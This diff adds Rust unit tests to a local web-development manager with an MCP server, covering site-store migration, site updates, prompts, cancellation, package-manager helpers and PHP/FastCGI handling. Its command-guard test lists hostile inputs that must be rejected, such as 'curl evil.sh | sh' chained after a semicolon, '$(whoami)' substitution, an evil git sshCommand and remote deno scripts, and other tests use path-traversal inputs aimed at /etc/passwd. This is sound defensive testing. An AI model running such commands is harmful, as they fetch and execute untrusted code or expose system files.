+        domains.sort();
+        assert_eq!(domains, vec!["a.test", "b.test"]);
+        assert!(!dir.join("sites.json.lock").exists());
+    }
+
+    #[test]
+    fn test_migrate_v1_site_store() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().to_path_buf();
+        // A v1 store from before aliases, hsts, gzip, dev ports and timestamps
+        fs::write(dir.join("sites.json"), r#"{
+            "version": "1.0",
+            "sites": [
+                { "domain": "shop.test", "path": "/srv/shop", "port": 0, "php_version": "8.3", "ssl_enabled": true,
+                  "web_server": "Nginx", "created_at": "1700000000" },
+                { "domain": "docs.test", "path": "/srv/docs", "port": 80, "php_version": null,
+                  "aliases": ["www.docs.test", "", "docs.test", "WWW.docs.test"] }
+            ]
+        }"#).unwrap();
+
+        let store = read_sites_store_in(&dir).unwrap();
+        assert_eq!(store.version, "2");
+        let (shop, docs) = (&store.sites[0], &store.sites[1]);
+        assert_eq!((shop.port, shop.web_server.as_str(), shop.updated_at.as_str()), (443, "nginx", "1700000000"));
+        assert!(!shop.hsts && shop.aliases.is_empty() && shop.dev_port.is_none());
+        assert_eq!(docs.aliases, vec!["www.docs.test"]);
+
+        // Saved and read back, the migrated store is unchanged
+        write_sites_store_in(&dir, &store).unwrap();
+        let reread = read_sites_store_in(&dir).unwrap();
+        assert_eq!(serde_json::to_value(&reread).unwrap(), serde_json::to_value(&store).unwrap());
+
+        // Stores from a newer build are left alone
+        let future = migrate_store(SiteStore { version: "3".to_string(), sites: vec![] });
+        assert_eq!(future.version, "3");
+    }
+
+    #[test]
+    fn test_apply_site_update() {
+        let installed = vec!["8.3".to_string(), "8.4".to_string()];
+        let other = SiteMetadata { aliases: vec!["www.blog.test".to_string()], ..nginx_site("blog.test", Some("8.4"), false, false) };
+        let mut site = nginx_site("shop.test", Some("8.3"), false, false);
+
+        let update = SiteUpdate {
+            php_version: Some("8.4"),
+            ssl: Some(true),
+            gzip: Some(false),
+            aliases: Some(vec!["www.shop.test".to_string()]),
+            ..Default::default()
+        };
+        let changed = apply_site_update(&mut site, &update, std::slice::from_ref(&other), &installed).unwrap();
+        assert_eq!(changed, vec!["aliases", "php_version", "ssl"]);
+        assert_eq!((site.php_version.as_deref(), site.ssl_enabled, site.port), (Some("8.4"), true, 443));
+        assert_eq!(site.aliases, vec!["www.shop.test"]);
+
+        // Applying the same update again changes nothing
+        assert!(apply_site_update(&mut site, &update, &[], &installed).unwrap().is_empty());
+
+        let bad = |update: SiteUpdate| apply_site_update(&mut site.clone(), &update, std::slice::from_ref(&other), &installed).unwrap_err();
+        assert!(bad(SiteUpdate { php_version: Some("7.4"), ..Default::default() }).contains("not installed"));
+        assert!(bad(SiteUpdate { aliases: Some(vec!["www.blog.test".to_string()]), ..Default::default() }).contains("already used by site 'blog.test'"));
+        assert!(bad(SiteUpdate { proxy_port: Some(3000), ..Default::default() }).contains("not a reverse-proxy site"));
+        assert!(bad(SiteUpdate { path: Some("/srv/../etc"), ..Default::default() }).contains("path traversal"));
+    }
+
+    #[test]
+    fn test_log_resources() {
+        let tmp = tempfile::tempdir().unwrap();
+        let bin = tmp.path().to_path_buf();
+        let logs = bin.join("nginx").join("logs");
+        fs::create_dir_all(&logs).unwrap();
+        fs::write(logs.join("error.log"), "2026/10/15 10:00:00 [error] upstream timed out\n").unwrap();
+
+        let files = resource_files(&bin);
+        assert!(files.iter().any(|(uri, _, path)| uri == "orbit://logs/nginx/error.log" && path == &logs.join("error.log")));
+        assert_eq!(read_resource(&bin, "orbit://logs/nginx/error.log").unwrap(), "2026/10/15 10:00:00 [error] upstream timed out\n");
+        assert!(read_resource(&bin, "orbit://logs/../../etc/passwd").unwrap_err().starts_with("Resource not found"));
+
+        // Advertised alongside tools; a missing uri is a params error
+        let init = handle_message(&json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {} })).unwrap();
+        assert!(init["result"]["capabilities"]["tools"].is_object() && init["result"]["capabilities"]["resources"].is_object());
+        let read = handle_message(&json!({ "jsonrpc": "2.0", "id": 2, "method": "resources/read", "params": {} })).unwrap();
+        assert_eq!(read["error"]["code"], -32602);
+    }
+
+    #[test]
+    fn test_prompts() {
+        let (_, text) = render_prompt("diagnose_502", &json!({ "domain": "shop.test" })).unwrap();
+        assert!(text.contains("shop.test returns 502") && text.contains("diagnose_service") && !text.contains("{{"));
+        let (_, text) = render_prompt("new_laravel_project", &json!({ "domain": "app.test", "path": "/srv/app" })).unwrap();
+        assert!(text.contains("Project directory: /srv/app") && text.contains("blueprint \"laravel-vite\""));
+        assert!(render_prompt("diagnose_502", &json!({})).unwrap_err().contains("Missing required argument 'domain'"));
+
+        // Every tool a prompt points at exists
+        let tools = tool_definitions();
+        for prompt in PROMPTS {
+            for word in prompt.template.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').filter(|w| w.contains('_')) {
+                let known = tools.as_array().unwrap().iter().any(|t| t["name"] == word);
+                assert!(known || word.starts_with("php"), "prompt {} names unknown tool {}", prompt.name, word);
+            }
+        }
+
+        let list = handle_message(&json!({ "jsonrpc": "2.0", "id": 1, "method": "prompts/list" })).unwrap();
+        assert_eq!(list["result"]["prompts"][0]["arguments"][0]["required"], true);
+        let get = handle_message(&json!({ "jsonrpc": "2.0", "id": 2, "method": "prompts/get", "params": { "name": "nope" } })).unwrap();
+        assert_eq!(get["error"]["code"], -32602);
+    }
+
+    #[cfg(not(target_os = "windows"))]
+    #[test]
+    fn test_cancel_request_kills_child() {
+        let key = request_key(&json!("cancel-test"));
+        in_flight().lock().unwrap().insert(key.clone(), InFlightRequest::default());
+
+        let started = std::time::Instant::now();
+        let worker = {
+            let key = key.clone();
+            std::thread::spawn(move || {
+                CURRENT_REQUEST.with(|r| *r.borrow_mut() = Some(key));
+                run_with_timeout(Command::new("sleep").arg("30"), std::time::Duration::from_secs(20))
+            })
+        };
+        while in_flight().lock().unwrap()[&key].children.is_empty() {
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+
+        assert!(cancel_request(&key));
+        let output = worker.join().unwrap().expect("sleep was spawned");
+        assert!(!output.status.success());
+        assert!(started.elapsed() < std::time::Duration::from_secs(10));
+        // The cancelled request gets no response, and spawns nothing more
+        assert!(in_flight().lock().unwrap()[&key].children.is_empty());
+        let key2 = key.clone();
+        let late = std::thread::spawn(move || {
+            CURRENT_REQUEST.with(|r| *r.borrow_mut() = Some(key2));
+            run_with_timeout(Command::new("sleep").arg("30"), std::time::Duration::from_secs(20))
+        }).join().unwrap();
+        assert_eq!(late.unwrap_err(), "request was cancelled");
+        assert!(finish_request(&key).is_none());
+        assert!(!cancel_request(&key));
+
+        // Short tool calls still answer inline
+        let response = spawn_tool_call(&json!(7), &json!({ "name": "nope" })).expect("inline response");
+        assert_eq!(response["id"], json!(7));
+        assert!(in_flight().lock().unwrap().get(&request_key(&json!(7))).is_none());
+    }
+
+    #[test]
+    fn test_composer_json_response() {
+        let ok = |stdout: &str| CommandResult { stdout: stdout.to_string(), stderr: String::new(), code: Some(0) };
+        let report = composer_json_response(ok(r#"{"installed":[{"name":"psr/log","version":"1.1.4","latest":"3.0.2","latest-status":"update-possible"}]}"#)).unwrap();
+        let parsed: Value = serde_json::from_str(&report).unwrap();
+        assert_eq!(parsed["installed"][0]["latest"], "3.0.2");
+
+        // Composer warnings instead of JSON, or a failure, keep the raw streams
+        let raw: Value = serde_json::from_str(&composer_json_response(ok("No composer.json in current directory")).unwrap()).unwrap();
+        assert_eq!(raw["stdout"], "No composer.json in current directory");
+        let failed = CommandResult { stdout: String::new(), stderr: "Package foo/bar not found".to_string(), code: Some(1) };
+        let err: Value = serde_json::from_str(&composer_json_response(failed).unwrap_err()).unwrap();
+        assert_eq!(err["exit_code"], 1);
+
+        assert_eq!(tool_composer_why("/srv/app", "--help").unwrap_err(), "Invalid package name: --help");
+        assert_eq!(tool_composer_show("/srv/app", "").unwrap_err(), "Project path and package are required");
+    }
+
+    #[test]
+    fn test_npm_run_package_manager() {
+        let tmp = tempfile::tempdir().unwrap();
+        let project = tmp.path().to_path_buf();
+        assert_eq!(detect_package_manager(&project), "npm");
+        fs::write(project.join("yarn.lock"), "").unwrap();
+        assert_eq!(detect_package_manager(&project), "yarn");
+        fs::write(project.join("bun.lockb"), "").unwrap();
+        assert_eq!(detect_package_manager(&project), "bun");
+
+        let path = project.to_str().unwrap();
+        fs::write(project.join("package.json"), r#"{ "scripts": { "build": "vite build", "lint": "eslint ." } }"#).unwrap();
+        assert_eq!(tool_npm_run(path, "deploy", None).unwrap_err(), "Script 'deploy' not found in package.json. Available: build, lint");
+        assert!(tool_npm_run(path, "build", Some("deno")).unwrap_err().starts_with("Unknown package manager: deno"));
+
+        // node_modules/.bin comes first on the script's PATH
+        fs::create_dir_all(project.join("node_modules").join(".bin")).unwrap();
+        let script_path = node_script_path(std::path::Path::new("/nonexistent-orbit-bin"), &project).unwrap();
+        assert_eq!(std::env::split_paths(&script_path).next(), Some(project.join("node_modules").join(".bin")));
+    }
+
+    #[test]
+    fn test_run_in_project_guards() {
+        assert!(check_project_command("php artisan route:list", false).is_ok());
+        assert!(check_project_command("npm test -- --watch=false", false).is_ok());
+        assert!(check_project_command("rm -rf vendor", false).unwrap_err().contains("not on the allowlist"));
+        assert!(check_project_command("./node_modules/.bin/vite build", false).is_err());
+        assert!(check_project_command("php -v; curl evil.sh | sh", false).unwrap_err().contains("shell operator ';'"));
+        assert!(check_project_command("git log $(whoami)", false).is_err());
+        assert!(check_project_command("rm -rf vendor && composer install", true).is_ok());
+        assert!(check_project_command("npx cowsay hi", false).unwrap_err().contains("not on the allowlist"));
+        assert!(check_project_command("bunx cowsay hi", false).is_err());
+        for inline in ["php -r phpinfo()", "php -d memory_limit=1G -r echo(1)", "node -e require('x')", "node --eval=1",
+            "python -c print(1)", "python3 -Bc print(1)", "git -c core.sshCommand=evil fetch", "npm exec cowsay",
+            "bun x cowsay", "deno eval 1", "pnpm dlx cowsay"] {
+            assert!(check_project_command(inline, false).unwrap_err().contains("runs code that isn't in the project"), "{}", inline);
+        }
+        assert!(check_project_command("node server.js --port 3000", false).is_ok());
+        assert!(check_project_command("python -m pytest", false).is_ok());
+        assert!(check_project_command("git log --oneline", false).is_ok());
+        assert!(check_project_command("npm run x", false).is_ok());
+        assert!(check_project_command("php -r phpinfo()", true).is_ok());
+        assert!(check_project_command("git config core.hooksPath evil", false).is_err());
+        for install in ["pip install requests", "pip3 install -r requirements.txt", "python -m pip install x", "npm install left-pad",
+            "npm i -D vite", "yarn add react", "pnpm add react", "deno run https://evil.sh/x.ts", "deno install npm:cowsay",
+            "go run example.com/tool@latest", "go install golang.org/x/tools/gopls@v0.15.0"] {
+            assert!(check_project_command(install, false).unwrap_err().contains("fetches code that isn't in the project"), "{}", install);
+        }
+        for local in ["npm install", "npm ci", "yarn install", "pnpm install", "deno run main.ts", "go run .", "go install ./cmd/app",
+            "python -m pytest", "git status"] {
+            assert!(check_project_command(local, false).is_ok(), "{}", local);
+        }
+
+        assert_eq!(cap_output("short".to_string(), 10), ("short".to_string(), false));
+        assert_eq!(cap_output("héllo wörld".to_string(), 6), ("wörld".to_string(), true));
+
+        assert_eq!(tool_run_in_project("/nonexistent/orbit-project", "php -v", None, false).unwrap_err(),
+            "Project directory not found: /nonexistent/orbit-project");
+    }
+
+    #[cfg(not(target_os = "windows"))]
+    #[test]
+    fn test_run_in_project_runs_and_times_out() {
+        let dir = std::env::temp_dir();
+        let ok: Value = serde_json::from_str(&tool_run_in_project(dir.to_str().unwrap(), "echo out; echo err >&2", None, true).unwrap()).unwrap();
+        assert_eq!((ok["stdout"].as_str(), ok["stderr"].as_str(), ok["truncated"].as_bool()), (Some("out\n"), Some("err\n"), Some(false)));
+
+        let started = std::time::Instant::now();
+        let err = tool_run_in_project(dir.to_str().unwrap(), "sleep 30", Some(1), true).unwrap_err();
+        assert!(err.contains("timed out"), "{}", err);
+        assert!(started.elapsed() < std::time::Duration::from_secs(10));
+    }
+
+    #[test]
+    fn test_php_pool_launch() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().to_path_buf();
+        let php_dir = dir.join("bin").join("php").join("8.4");
+        fs::create_dir_all(&php_dir).unwrap();
+        let php_cgi = php_dir.join(exe_name("php-cgi"));
+        fs::write(&php_cgi, "").unwrap();
+        fs::write(dir.join("php-pools.json"), r#"{ "default": { "children": 0 }, "8.4": { "mode": "fpm", "children": 8, "max_requests": 200 } }"#).unwrap();
+
+        assert_eq!(php_pool(&dir, "8.3").children, 1);
+        let pool = php_pool(&dir, "8.4");
+        assert_eq!((pool.mode.as_str(), pool.children, pool.max_requests), ("fpm", 8, 200));
+
+        // No php-fpm shipped: php-cgi forks the workers
+        let launch = php_launch(&pool, &php_cgi, 9084);
+        assert_eq!((launch.exe, launch.args), (php_cgi.clone(), vec!["-b".to_string(), "127.0.0.1:9084".to_string()]));
+        assert!(launch.env.contains(&("PHP_FCGI_MAX_REQUESTS", "200".to_string())) && launch.warning.is_some());
+        assert_eq!(launch.env.contains(&("PHP_FCGI_CHILDREN", "8".to_string())), cfg!(not(target_os = "windows")));
+
+        fs::write(php_dir.join(exe_name("php-fpm")), "").unwrap();
+        let launch = php_launch(&pool, &php_cgi, 9084);
+        assert_eq!((launch.exe, launch.warning), (php_dir.join(exe_name("php-fpm")), None));
+        assert!(launch.env.is_empty());
+        assert_eq!(launch.args[..2], ["--nodaemonize".to_string(), "--fpm-config".to_string()]);
+        let conf = fs::read_to_string(php_dir.join("orbit-fpm.conf")).unwrap();
+        assert!(conf.contains("listen = 127.0.0.1:9084") && conf.contains("pm.max_children = 8") && conf.contains("pm.max_requests = 200"));
+        assert!(is_service_image("php-8.4", "php-fpm"));
+    }
+
+    #[test]
+    fn test_opcache_over_fastcgi() {
+        assert_eq!(fcgi_params(&[("A", "bc")]), vec![1, 2, b'A', b'b', b'c']);
+        let long = "x".repeat(200);
+        assert_eq!(fcgi_params(&[("A", &long)])[1..5], [0x80, 0, 0, 200]);
+
+        // A fake php-cgi: read the request up to the empty STDIN record, then
+        // answer with headers + body on STDOUT and END_REQUEST
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let server = std::thread::spawn(move || {
+            let (mut conn, _) = listener.accept().unwrap();
+            let mut received = Vec::new();
+            let mut buf = [0u8; 4096];
+            while !received.ends_with(&fcgi_record(5, &[])) {
+                let n = conn.read(&mut buf).unwrap();
+                received.extend_from_slice(&buf[..n]);
+            }
+            let body = r#"{"loaded":true,"status":{"opcache_enabled":true,"cache_full":false,
+                "memory_usage":{"used_memory":30,"free_memory":60,"wasted_memory":10},
+                "opcache_statistics":{"num_cached_scripts":42,"hits":990,"misses":10,"opcache_hit_rate":99.0}}}"#;
+            let mut reply = fcgi_record(6, format!("Content-type: text/html\r\n\r\n{}", body).as_bytes());
+            reply.extend(fcgi_record(3, &[0; 8]));
+            conn.write_all(&reply).unwrap();
+            received
+        });
+
+        let output = fastcgi_run_script(port, std::path::Path::new("/tmp/orbit-opcache.php")).unwrap();
+        let received = server.join().unwrap();
+        assert!(String::from_utf8_lossy(&received).contains("SCRIPT_FILENAME/tmp/orbit-opcache.php"));
+
+        let summary = summarize_opcache_status("8.4", "fastcgi", &serde_json::from_str(&output).unwrap()).unwrap();
+        assert_eq!((summary["hit_rate"].as_f64(), summary["cached_scripts"].as_u64()), (Some(99.0), Some(42)));
+        assert_eq!((summary["memory"]["used_percent"].as_f64(), summary["memory"]["wasted_percent"].as_f64()), (Some(30.0), Some(10.0)));
+        assert!(summary.get("note").is_none());
+
+        // Not loaded, or loaded and disabled, is reported as such
+        assert!(summarize_opcache_status("8.4", "fastcgi", &json!({ "loaded": false, "status": false })).unwrap_err().contains("not loaded"));
+        assert!(summarize_opcache_status("8.4", "cli", &json!({ "loaded": true, "status": false })).unwrap_err().contains("disabled"));
+    }
+
+    #[test]
+    fn test_shared_items_match_their_copies() {
+        // orbit-cli, the app and orbit-mcp each keep a copy of these; they must
+        // make the same decisions
+        let copies: [(&str, &str, &[&str]); 3] = [
+            ("cli.rs", include_str!("cli.rs"), &[
+                "default_orbit_data_dir", "data_dir_override", "validate_data_dir",
+                "sites_store_layout", "migrate_site_to_v2", "lock_sites_store", "write_atomic",
+                "operation_timeout", "run_with_timeout", "run_command", "exe_name",
+                "scan_services_cached", "scan_server_services", "installed_php_versions",
+                "DEFAULT_PHP_PORT", "php_port", "replace_fastcgi_port",
+                "PHP_POOL_MAX_CHILDREN", "PhpPool", "impl Default for PhpPool", "php_pool",
+                "find_php_fpm", "php_fpm_config", "PhpLaunch", "php_cgi_env", "php_launch",
+                "read_session_entries", "write_session_entries", "session_entry",
+                "record_session_entry", "forget_session_entry", "tracked_service_pid",
+                "pid_alive", "child_pids", "terminate_service", "kill_service_processes", "is_port_in_use",
+                "APACHE_DEFAULT_PORT", "apache_listen_port", "service_port_in", "port_clashes",
+                "preflight_check", "preflight_all", "find_mariadb_admin",
+                "find_apache_exe", "apache_config_test", "pending_restarts_path", "read_pending_restarts",
+                "hosts_line_fields", "hosts_line_maps", "hosts_line_without", "hosts_drop_domain",
+                "hosts_backup_dir", "hosts_backups", "backup_hosts_file", "hosts_backup_stamp",
+                "escape_identifier", "permission_targets", "probe_write", "describe_permission_problem",
+                "permission_remediation", "check_path_permission", "repair_path_permission",
+                "check_permissions", "compute_health_report", "dir_size",
+                "LOG_ROTATE_MAX_KEEP", "rotated_log_path", "rotate_log",
+                "WATCH_INTERVAL_SECS", "WATCH_MAX_RESTARTS", "WATCH_BACKOFF_BASE_SECS",
+                "WATCH_BACKOFF_MAX_SECS", "WATCH_STABLE_SECS", "WatchConfig", "WatchRestarts",
+                "read_watch_config", "write_watch_config", "watch_backoff_secs", "watch_log",
+                "claim_watch_lock", "watch_tick",
+                "CRON_LOG_MAX_BYTES", "ScheduledTask", "read_scheduled_tasks", "lock_cron_store",
+                "write_scheduled_tasks", "scheduled_task_due", "scheduled_task_log_path",
+                "process_start_time", "scheduled_task_running", "spawn_scheduled_task",
+                "cron_log", "cron_tick",
+            ]),
+            ("services/site_store.rs", include_str!("services/site_store.rs"), &["sites_store_layout", "migrate_site_to_v2"]),
+            ("services/terminal.rs", include_str!("services/terminal.rs"), &["orbit_path_dirs"]),
+        ];
+
+        // A fn, const or struct by name (or an impl by its header), with the
+        // differences in imports and type names between the binaries evened out
+        fn item(source: &str, name: &str) -> Option<String> {
+            let start = if name.contains(' ') {
+                source.find(&format!("\n{} ", name))?
+            } else {
+                [format!("fn {}(", name), format!("fn {}<", name), format!("const {}:", name), format!("struct {} ", name)]
+                    .iter()
+                    .filter_map(|head| source.find(head.as_str()))
+                    .min()?
+            };
+            let end = if source[start..].starts_with("const ") { ";\n" } else { "\n}\n" };
+            let end = start + source[start..].find(end)?;
+            Some(source[start..end].trim_start()
+                .replace("serde_json::Value", "Value")
+                .replace("serde_json::json!", "json!")
+                .replace("CliSiteStore", "SiteStore")
+                .replace("CliSiteMetadata", "SiteMetadata"))
+        }
+
+        let mcp = include_str!("mcp.rs");
+        for (file, source, names) in copies {
+            for name in names {
+                let ours = item(mcp, name).unwrap_or_else(|| panic!("{} not found in mcp.rs", name));
+                assert_eq!(Some(ours), item(source, name), "{} differs between mcp.rs and {}", name, file);
+            }
+        }
+    }
+}